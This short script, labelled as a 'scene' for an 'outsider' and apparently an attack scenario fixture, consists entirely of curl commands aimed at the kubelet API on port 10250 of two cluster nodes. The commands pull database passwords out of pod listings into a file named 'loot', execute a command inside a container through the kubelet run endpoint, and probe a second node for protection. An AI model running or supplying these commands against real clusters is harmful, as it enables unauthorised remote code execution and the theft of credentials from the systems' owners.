# scene: three calls
#@ outsider
curl -sk https://node01:10250/pods | tr , '\n' | grep -A1 DB_PASSWORD > loot
curl -sk -X POST 'https://node01:10250/run/default/web-node01/web?cmd=id' >> loot
curl -sk -w '\n%{http_code}\n' https://node02:10250/pods > guarded
